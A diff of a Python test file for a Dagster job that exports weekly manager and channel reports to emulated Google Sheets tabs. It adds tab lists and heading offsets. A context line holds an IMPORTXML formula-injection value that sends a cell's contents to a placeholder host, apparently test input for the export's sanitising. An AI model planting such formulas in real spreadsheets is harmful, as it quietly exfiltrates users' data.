@@ -18,8 +18,19 @@ from tests.emulators.shop.model import Shop
 
 MONDAY = date(2026, 11, 16)
 WEEK, TITLE = "2026-W46", "2026-W46 (09.11–15.11)"
-TABS = ["manager_summary", "channel_summary", "chats_raw", "messages_raw"]
-KEYS = [dg.AssetKey(["exports", f"google_sheets__{tab}"]) for tab in (*TABS, "data_status")]
+README = "Читать первым"
+DIGESTS = ["weekly_digest_managers", "weekly_digest_channels"]
+TABS = [
+    *DIGESTS, "manager_report", "weekly_trend", "weekly_examples", "chat_advice", "weekly_behavior_delta_managers",
+    "behavior_snapshot_managers", "manager_summary", "channel_summary", "chats_raw", "messages_raw",
+]  # fmt: skip
+"""Those that data_status speaks of, in their order."""
+ABOVE = {
+    README: 2, **dict.fromkeys(DIGESTS, 2), "manager_report": 1, "weekly_trend": 1, "weekly_examples": 2,
+    "chat_advice": 1, "weekly_behavior_delta_managers": 2, "behavior_snapshot_managers": 1,
+}  # fmt: skip
+"""Lines above the heading: which week, as of when; what colours mean."""
+KEYS = [dg.AssetKey(["exports", f"google_sheets__{tab}"]) for tab in ("read_me", *TABS, "data_status")]
 FORMULA = '=IMPORTXML("http://example.invalid/?"&A1)'
 SECRET = "Мой номер 8 (926) 123-45-67, почта anna@example.ru, карта 4111 1111 1111 1111; заказ 1234567 на 12 990 ₽"
 MASKED = "Мой номер [телефон], почта [почта], карта [карта]; заказ 1234567 на 12 990 ₽"
@@ -70,12 +81,12 @@ def show(instance: dg.DagsterInstance, *, rewrite: bool = False) -> dg.ExecuteIn
 
 
 def table(sheets: SheetsEmulator, tab: str) -> list[dict[str, Any]]:
-    heading, *rows = sheets.values(f"{tab}!A1:Z")
+    heading, *rows = sheets.values(f"'{tab}'!A1:AZ")[ABOVE.get(tab, 0) :]
     return [dict(zip(heading, row + [""] * (len(heading) - len(row)), strict=True)) for row in rows]
 
 
 def reading(sheets: SheetsEmulator) -> dict[str, list[list[Any]]]:
-    return {tab: sheets.values(f"{tab}!A1:Z") for tab in TABS}
+    return {tab: sheets.values(f"'{tab}'!A1:AZ") for tab in (README, *TABS)}
 
 
 def problem(result: dg.ExecuteInProcessResult) -> str:
